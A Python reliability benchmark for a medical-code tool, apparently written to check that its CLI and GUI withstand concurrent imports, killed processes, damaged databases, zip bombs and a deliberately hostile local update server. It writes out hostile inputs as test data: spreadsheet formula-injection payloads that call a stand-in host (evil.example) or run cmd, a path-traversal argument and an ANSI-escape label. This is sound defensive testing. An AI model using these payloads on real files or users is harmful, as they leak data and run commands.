"""The reliability suite: every attack of issue 16, run for real, as a table of attack -> expected -> observed.

Run from the project root:  .venv/bin/python benchmarks/reliability.py [--only WORD] [--markdown]

Each attack runs the real `medcode` / `medcode-gui` in child processes against a temporary database (built from
the starter data and, for some attacks, the 2019 CMS release in ../shared/data), and measures what a user would
meet: the exit status, the first line of the message, wall time and the child's peak memory (os.wait4). The
window's behaviour under attack (an import by another process, a refused note, a read-only user database, a
damaged page met by a search, rich text in imported descriptors) is proved by pytest-qt tests; those rows run
the named tests and report whether they passed. The exit status is the number of failed rows (0: all passed).
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import io
import os
import shutil
import socket
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests"))  # the hostile file generators the tests use

from common import DATA  # noqa: E402

MEDCODE = [sys.executable, "-m", "medcode_gui"]
ZIP_2019 = DATA / "hcpcs" / "zips" / "2019-Alpha-Numeric-HCPCS-File.zip"
ZIP_2018 = DATA / "hcpcs" / "zips" / "2018-Alpha-Numeric-HCPCS-File.zip"
MEMORY_LIMIT_MB, TIME_LIMIT_S = 300, 10  # the bound on a refused hostile file


@dataclass
class Run:
    """One finished child process, as a user meets it."""

    status: int
    out: str
    err: str
    seconds: float
    peak_mb: float

    @property
    def message(self) -> str:
        """What the user reads as the outcome: the error line, else the last line of stderr (progress lines come
        before it), else the first line of the output."""
        errors = [line.strip() for line in self.err.splitlines() if line.strip()]
        said = [line for line in errors if line.startswith("Error") or "not imported" in line]
        if said or errors:
            return (said or errors)[-1]
        lines = [line.strip() for line in self.out.splitlines() if line.strip()]
        return lines[0] if lines else ""

    @property
    def traceback(self) -> bool:
        return "Traceback (most recent call last)" in self.err + self.out


@dataclass
class Row:
    attack: str
    expected: str
    observed: str = ""
    passed: bool = False


def run(args: list[str], db: Path | None = None, timeout: float = 120, stdin: bytes = b"", **env: str) -> Run:
    """Run a child, measuring its wall time and peak memory; killed (and reported as status -9) after timeout."""
    environment = dict(os.environ, QT_QPA_PLATFORM="offscreen", **env)
    if db is not None:
        environment["MEDCODE_DB"] = str(db)
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        start = time.perf_counter()
        child = subprocess.Popen(args, stdin=subprocess.PIPE, stdout=out, stderr=err, env=environment)
        killer = threading.Timer(timeout, child.kill)
        killer.start()
        try:
            child.stdin.write(stdin)
            child.stdin.close()
        except BrokenPipeError:
            pass
        status, peak_mb = _wait(child)
        killer.cancel()
        seconds = time.perf_counter() - start
        out.seek(0)
        err.seek(0)
        return Run(status, out.read().decode(errors="replace"), err.read().decode(errors="replace"), seconds, peak_mb)


def _wait(child: subprocess.Popen) -> tuple[int, float]:
    """The child's exit status and peak RSS in MB (0 where the platform has no os.wait4)."""
    if not hasattr(os, "wait4"):
        return child.wait(), 0.0
    _, status, usage = os.wait4(child.pid, 0)
    child.returncode = os.waitstatus_to_exitcode(status)
    return child.returncode, usage.ru_maxrss / 1024  # kilobytes on Linux


def medcode(*args: str, db: Path | None = None, **kwargs) -> Run:  # noqa: ANN003
    return run([*MEDCODE, *args], db=db, **kwargs)


def one_sentence(result: Run) -> bool:
    """A refusal as the issue asks for it: non-zero exit, a message, no traceback."""
    return result.status not in (0, -9) and bool(result.message) and not result.traceback


def described(result: Run) -> str:
    return f"exit {result.status}, {result.seconds:.1f} s, {result.peak_mb:.0f} MB: {result.message[:110]}"


# Databases ----------------------------------------------------------------------------------------------


def starter_db(folder: Path) -> Path:
    db = folder / "reference.sqlite"
    result = medcode("releases", db=db)
    if result.status != 0:
        raise SystemExit(f"Cannot create a starter database: {result.message}")
    return db


def db_with_2019(folder: Path) -> Path:
    db = starter_db(folder)
    result = medcode("import", str(ZIP_2019), db=db)
    if result.status != 0:
        raise SystemExit(f"Cannot import {ZIP_2019.name}: {result.message}")
    return db


def integrity(db: Path) -> str:
    conn = sqlite3.connect(db)
    try:
        return conn.execute("PRAGMA integrity_check").fetchone()[0]
    finally:
        conn.close()


def release_labels(db: Path) -> list[str]:
    conn = sqlite3.connect(db)
    try:
        return [row[0] for row in conn.execute("SELECT label FROM releases ORDER BY id")]
    finally:
        conn.close()


# The attacks --------------------------------------------------------------------------------------------

Attack = Callable[[Path], Row]
ATTACKS: list[Attack] = []


def attack(function: Attack) -> Attack:
    ATTACKS.append(function)
    return function


def big_csvs(folder: Path, files: int = 3, per_file: int = 50_000) -> list[Path]:
    """Custom code lists of 50,000 valid CPT and Level II codes each (a larger list is refused as no real one):
    imported in one command, a long import (seconds of write transactions)."""
    from medcode_gui.codes.explain import explain

    words = ["injection", "catheter", "wheelchair", "oxygen", "supply", "each", "dressing", "sterile", "pump"]
    candidates = [f"{n:05d}" for n in range(100, 100_000)] + [f"{c}{n:04d}" for c in "AEGJKL" for n in range(10_000)]
    codes = [code for code in candidates if explain(code)["valid"]]
    paths = []
    for part in range(files):
        path = folder / f"big-{2020 + part}.csv"  # the year names the release
        chosen = codes[part * per_file // 2 :][:per_file]  # overlapping parts, as releases of one list overlap
        with path.open("w", encoding="utf-8") as out:
            out.write("code,description\n")
            out.writelines(f"{code},{words[n % 9]} {words[n % 7]} number {n + part}\n" for n, code in enumerate(chosen))
        paths.append(path)
    return paths


@attack
def readers_during_import(folder: Path) -> Row:
    row = Row("search, lookup, releases while another process imports", "each answers (exit 0) within 2 s")
    db = starter_db(folder)
    importer = subprocess.Popen(
        [*MEDCODE, "import", *map(str, big_csvs(folder))],
        env=dict(os.environ, MEDCODE_DB=str(db)),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    during: list[Run] = []
    while importer.poll() is None:
        for command in (["search", "wheelchair"], ["lookup", "E0100"], ["releases"]):
            answer = medcode(*command, db=db)
            if importer.poll() is None:  # only answers given while the import was still writing count
                during.append(answer)
    importer.wait()
    slowest = max((a.seconds for a in during), default=0.0)
    failed = [a for a in during if a.status != 0]
    labels = release_labels(db)
    row.observed = (
        f"{len(during)} commands during the import, {len(failed)} failed, slowest {slowest:.2f} s "
        f"(process start included); releases after: {', '.join(labels)}"
    )
    row.passed = len(during) >= 3 and not failed and slowest < 2 and importer.returncode == 0
    if failed:
        row.observed += f"; first failure: {failed[0].message[:80]}"
    return row


@attack
def killed_imports(folder: Path) -> Row:
    row = Row(
        "kill -9 during an import, 8 times at spread moments",
        "database whole: releases as before, or (killed past the commit) with the import",
    )
    base = db_with_2019(folder)
    before = release_labels(base)
    timing = medcode("import", str(ZIP_2018), db=folder / "timing.sqlite")
    outcomes = []
    for attempt in range(8):
        db = folder / f"attempt-{attempt}.sqlite"
        shutil.copyfile(base, db)
        importer = subprocess.Popen(
            [*MEDCODE, "import", str(ZIP_2018)], env=dict(os.environ, MEDCODE_DB=str(db)), stdout=subprocess.DEVNULL
        )
        try:
            importer.wait(timeout=timing.seconds * (attempt + 1) / 9)
        except subprocess.TimeoutExpired:
            importer.kill()
            importer.wait()
            outcomes.append((integrity(db), release_labels(db)))
    after = [*before, "HCPCS-2018"]  # killed between its COMMIT and its exit: the import is whole, and done
    whole = [labels for check, labels in outcomes if check == "ok" and labels in (before, after)]
    done = sum(labels == after for labels in whole)
    broken = [f"{check[:60]} {labels}" for check, labels in outcomes if check != "ok" or labels not in (before, after)]
    row.observed = (
        f"{len(outcomes)} imports killed mid-way: {len(whole) - done} left the database as before, {done} as after "
        f"(killed past the commit), {len(broken)} otherwise{': ' + '; '.join(broken) if broken else ''}"
    )
    row.passed = bool(outcomes) and not broken
    return row


@attack
def hostile_cli_arguments(folder: Path) -> Row:
    row = Row("hostile CLI input: invalid UTF-8 on search --stdin, level-one --section ../../etc", "one sentence each")
    db = starter_db(folder)
    results = [
        medcode("search", "--stdin", db=db, stdin=b"whe\xff\xfeelchair\n"),
        medcode("level-one", "--section", "../../etc", db=db),
    ]
    row.observed = "; ".join(described(r) for r in results)
    row.passed = all(one_sentence(r) for r in results)
    return row


@attack
def hostile_labels(folder: Path) -> Row:
    row = Row("release labels with a newline, an ANSI escape, 20,000 characters", "each refused in one sentence")
    db = starter_db(folder)
    labels = ["HCPCS\n2019", "HCPCS-\x1b[31m2019", "H" * 20_000]
    results = [medcode("import", str(ZIP_2019), "--label", label, db=db) for label in labels]
    row.observed = "; ".join(described(r) for r in results)
    row.passed = all(one_sentence(r) for r in results) and release_labels(db) == release_labels(starter_db(folder))
    return row


def damage_pages(db: Path, fractions: tuple[float, ...] = (0.3, 0.45, 0.6, 0.75)) -> None:
    """Overwrite a 4 KB page at each fraction of the file with random bytes (the header page stays valid)."""
    size = db.stat().st_size
    with db.open("r+b") as handle:
        for fraction in fractions:
            handle.seek(max(4096, int(size * fraction) // 4096 * 4096))
            handle.write(os.urandom(4096))


@attack
def damaged_pages(folder: Path) -> Row:
    row = Row(
        "a database with damaged pages inside: searches, lookups, import, the window's smoke test",
        "each answers as the whole file does, or says in one sentence the file is damaged; import refuses",
    )
    whole = db_with_2019(folder)
    queries = [["search", "wheelchair"], ["search", "injection"], ["lookup", "J1100"], ["search", "E01*"]]
    expected = [medcode(*query, db=whole).out for query in queries]
    damaged = folder / "damaged.sqlite"
    shutil.copyfile(whole, damaged)
    damage_pages(damaged)
    answers = [medcode(*query, db=damaged) for query in queries]
    silent = [q for q, a, e in zip(queries, answers, expected, strict=True) if a.status == 0 and a.out != e]
    loud = [a for a in answers if a.status != 0]
    imported = medcode("import", str(ZIP_2018), db=damaged)
    smoke = run([sys.executable, "-m", "medcode_gui.gui.app", "--db", str(damaged), "--smoke-test"])
    row.observed = (
        f"{len(queries)} reads: {len(answers) - len(loud) - len(silent)} answered as the whole file, "
        f"{len(loud)} said {loud[0].message[:70] if loud else '-'!r}, {len(silent)} answered wrongly; "
        f"import: {described(imported)}; smoke test: {described(smoke)}"
    )
    row.passed = (
        not silent
        and all(one_sentence(a) for a in loud)
        and one_sentence(imported)
        and not smoke.traceback
        and (smoke.status == 0 or one_sentence(smoke))  # the smoke test may not meet a damaged page
    )
    return row


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"]
EVIL_CODES = ["K0801", "K0802", "K0803", "K0804"]


def evil_release(folder: Path, name: str, suffix: str) -> Path:
    """A custom code list whose descriptors are spreadsheet formulas (each differs by suffix between releases)."""
    path = folder / name
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["code", "description"])
        writer.writerows([code, formula + suffix] for code, formula in zip(EVIL_CODES, FORMULAS, strict=True))
    return path


def formula_cells(text: str) -> list[str]:
    """The cells of a CSV text a spreadsheet would run as a formula (a plain number like -0.5 is not one)."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(cell)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@attack
def formulas_in_exports(folder: Path) -> Row:
    row = Row("descriptors that are spreadsheet formulas, in every CSV export", "no cell a spreadsheet would run")
    db, user = starter_db(folder), {"MEDCODE_USER_DB": str(folder / "user.sqlite")}
    for label, day, suffix in (("EVIL-1", "2020-01-01", ""), ("EVIL-2", "2020-02-01", " changed")):
        path = evil_release(folder, f"{label}.csv", suffix)
        medcode("import", str(path), "--label", label, "--effective", day, db=db)
    medcode("list", "create", "evil", db=db, **user)
    medcode("list", "add", "evil", *EVIL_CODES, db=db, **user)
    exports = {
        "list export": medcode("list", "export", "evil", db=db, **user),
        "compare --csv": medcode("compare", *EVIL_CODES, "--csv", db=db),
        "diff --csv": medcode("diff", "EVIL-1", "EVIL-2", "--csv", db=db),
    }
    found = {name: formula_cells(result.out) for name, result in exports.items()}
    evil_seen = {name: sum(formula[1:8] in result.out for formula in FORMULAS) for name, result in exports.items()}
    row.observed = "; ".join(
        f"{name}: exit {exports[name].status}, {evil_seen[name]} formulas exported, {len(cells)} left live"
        for name, cells in found.items()
    )
    row.passed = all(exports[name].status == 0 and evil_seen[name] and not cells for name, cells in found.items())
    return row


# Hostile files ---------------------------------------------------------------------------------------


def bounded_refusal(result: Run) -> bool:
    """Refused in one sentence within the issue's bounds of time and memory."""
    return one_sentence(result) and result.seconds <= TIME_LIMIT_S and result.peak_mb <= MEMORY_LIMIT_MB


def nested_archive(folder: Path) -> Path:
    """A release-named zip holding another zip renamed as the release's txt: refused by content, not name."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("HCPC2019_CONTR_ANWEB.txt", "A0021 ambulance".ljust(320) + "\n")
    path = folder / "2019-Alpha-Numeric-HCPCS-File.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("HCPC2019_CONTR_ANWEB.txt", inner.getvalue())
    return path


def hostile_files() -> list[tuple[str, Callable[[Path], Path]]]:
    import hostile_files as make

    files: list[tuple[str, Callable[[Path], Path]]] = [
        ("xlsx whose sheet inflates to 1.6 GB", make.xlsx_bomb),
        ("zip of 100 members of 199 MB each", make.zip_of_many_members),
        ("zip holding a zip named .txt", nested_archive),
        ("/dev/zero", lambda folder: make.endless_device()),
    ]
    for kind in make.JUNK_HEADERS:
        junk = lambda folder, k=kind: make.junk_under_header(folder, k)  # noqa: E731
        files.append((f"200 MB of junk under a valid {kind} header", junk))
    files.append(("400 MB of junk under a valid athena header", lambda f: make.junk_under_header(f, "athena", 400)))
    return files


@attack
def hostile_imports(folder: Path) -> Row:
    row = Row(
        "hostile files imported: bombs, huge members, nested archives, junk under valid headers, a device",
        f"each refused in one sentence, within {TIME_LIMIT_S} s and {MEMORY_LIMIT_MB} MB; nothing stored",
    )
    db = starter_db(folder)
    before = release_labels(db)
    observed, passed = [], True
    for name, make_file in hostile_files():
        with tempfile.TemporaryDirectory(prefix="hostile-", dir=folder) as place:
            result = medcode("import", str(make_file(Path(place))), db=db, timeout=120)
        ok = bounded_refusal(result)
        passed &= ok
        observed.append(f"{name}: {'' if ok else 'FAILED '}{result.seconds:.1f} s, {result.peak_mb:.0f} MB")
    passed &= release_labels(db) == before
    row.observed = "; ".join(observed)
    row.passed = passed
    return row


# Update from CMS against a hostile server ---------------------------------------------------------------


class _Hostile(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args: object) -> None:
        pass

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        with contextlib.suppress(OSError):
            if self.path == "/trickle.zip":  # headers, then one byte every 2 s
                self.send_response(200)
                self.send_header("Content-Length", "1000000")
                self.end_headers()
                while not STOP.is_set():
                    self.wfile.write(b"P")
                    self.wfile.flush()
                    STOP.wait(2)
            elif self.path == "/headers.zip":  # a header flood
                self.wfile.write(b"HTTP/1.1 200 OK\r\n")
                for number in range(100_000):
                    self.wfile.write(b"X-Flood-%d: x\r\n" % number)
            elif self.path == "/redirect.zip":  # to a host that refuses connections
                self.send_response(302)
                self.send_header("Location", f"http://127.0.0.1:{_closed_port()}/gone.zip")
                self.send_header("Content-Length", "0")
                self.end_headers()
            elif self.path == "/bomb.zip":  # a whole zip the importer refuses: its members claim absurd sizes
                body = ZIP_BOMB.read_bytes()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)


STOP = threading.Event()
ZIP_BOMB = Path()


def _closed_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@attack
def hostile_update_server(folder: Path) -> Row:
    row = Row(
        "update from CMS: plain http elsewhere, a byte every 2 s, a header flood, a failed redirect, a bomb",
        "each one sentence naming what failed, within the deadline; no .part or refused file left in downloads",
    )
    global ZIP_BOMB
    import hostile_files as make

    ZIP_BOMB = make.zip_of_many_members(folder)
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Hostile)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_port}"
    data_home = folder / "data"
    db = starter_db(folder)
    cases = {
        "http elsewhere": ("http://example.com/2019-Alpha-Numeric-HCPCS-File.zip", "http"),
        "a byte every 2 s": (f"{base}/trickle.zip", "slow"),
        "header flood": (f"{base}/headers.zip", "header"),
        "failed redirect": (f"{base}/redirect.zip", "127.0.0.1"),
        "bomb": (f"{base}/bomb.zip", "refused"),
    }
    observed, passed = [], True
    try:
        for name, (url, word) in cases.items():
            arguments = ["update", "--source", url, "--deadline", "60"]
            result = medcode(*arguments, db=db, timeout=120, XDG_DATA_HOME=str(data_home))
            left = [p.name for p in data_home.rglob("*") if p.is_file() and "download" in str(p.parent)]
            ok = one_sentence(result) and word in result.message.lower() and not left and result.seconds < 60
            passed &= ok
            said = result.message.removeprefix("Error: ")[:80]
            observed.append(f"{name}: {'' if ok else 'FAILED '}{result.seconds:.1f} s, {said!r}")
    finally:
        STOP.set()
        server.shutdown()
    row.observed = "; ".join(observed)
    row.passed = passed
    return row


# The window under attack: its pytest-qt tests ------------------------------------------------------------

WINDOW_TESTS = {
    "the window open while another process imports: the new release in the picker, its codes open": [
        "tests/gui/main/test_database_watch.py",
    ],
    "a refused star, a refused or over-long note, refused list changes (read-only user.sqlite)": [
        "tests/gui/main/test_workspace_actions.py",
    ],
    "imported descriptors that are markup (`<img src=file:...>`, `<a href>`) in tooltips and labels": [
        "tests/gui/common/test_plain_text.py",
    ],
    "a damaged page met by the window (search, navigation, details, import, smoke test)": [
        "tests/gui/main/test_damage_offer.py",
    ],
    "kill -9 inside every statement of an import's write (16 held kills, 4 running)": [
        "tests/robustness/test_robustness_kill.py",
    ],
    "a killed first start's temporary databases removed at the next start": ["tests/gui/test_app_start.py"],
}


def window_test_attack(name: str, paths: list[str]) -> Attack:
    def window_attack(folder: Path) -> Row:
        row = Row(name, "its tests pass: " + ", ".join(Path(p).name for p in paths))
        result = run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", *paths], timeout=900)
        summary = [line for line in result.out.splitlines() if " passed" in line or " failed" in line]
        row.observed = summary[-1].strip("= ") if summary else result.message
        row.passed = result.status == 0
        return row

    window_attack.__name__ = "window_" + paths[0].split("/")[-1].removesuffix(".py")
    return window_attack


ATTACKS.extend(window_test_attack(name, paths) for name, paths in WINDOW_TESTS.items())


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--only", help="run only the attacks whose name contains this word")
    parser.add_argument("--markdown", action="store_true", help="print the table as Markdown (for docs/)")
    options = parser.parse_args()
    rows = []
    for function in ATTACKS:
        if options.only and options.only not in function.__name__:
            continue
        with tempfile.TemporaryDirectory(prefix="medcode-attack-") as folder:
            started = time.perf_counter()
            try:
                row = function(Path(folder))
            except Exception as error:  # an attack that cannot even run is a failed row, not a crash of the suite
                row = Row(function.__name__, "", f"the attack could not run: {error!r}", False)
            seconds = time.perf_counter() - started
            print(f"{'PASS' if row.passed else 'FAIL'}  {row.attack}  ({seconds:.0f} s)", flush=True)
            rows.append(row)
    print_table(rows, options.markdown)
    return sum(not row.passed for row in rows)


def print_table(rows: list[Row], markdown: bool) -> None:
    print()
    if markdown:
        print("| attack | expected | observed | |\n|---|---|---|---|")
        for row in rows:
            print(f"| {row.attack} | {row.expected} | {row.observed} | {'pass' if row.passed else 'FAIL'} |")
        return
    for row in rows:
        verdict = "pass" if row.passed else "FAIL"
        print(f"{verdict}: {row.attack}\n    expected: {row.expected}\n    observed: {row.observed}")


if __name__ == "__main__":
    raise SystemExit(main())
